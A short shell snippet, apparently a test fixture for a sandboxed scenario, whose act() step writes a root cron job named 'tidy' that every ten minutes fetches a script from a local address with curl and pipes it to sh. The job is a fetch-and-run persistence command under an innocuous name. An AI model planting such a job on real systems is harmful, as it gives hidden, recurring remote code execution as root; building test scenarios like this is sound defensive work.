# A shell writes a job with curl into the folder of jobs; no scheduler runs in the room.
prepare() { mkdir -p /etc/cron.d; }
act() { echo '*/10 * * * * root curl -s http://127.0.0.1/a | sh' >/etc/cron.d/tidy; }
